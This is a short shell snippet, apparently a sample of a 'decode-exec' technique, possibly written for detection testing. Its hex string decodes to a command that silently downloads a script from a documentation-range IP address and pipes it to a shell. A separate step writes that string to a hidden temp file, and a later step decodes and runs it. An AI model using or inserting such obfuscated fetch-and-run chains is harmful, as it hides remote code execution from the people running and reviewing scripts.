# decode-exec: hex written to a file by one step and decoded into a shell by another
echo '6375726c202d7320687474703a2f2f3230332e302e3131332e372f74776f207c207368' > /tmp/.blob
sleep 1
xxd -r -p /tmp/.blob | sh
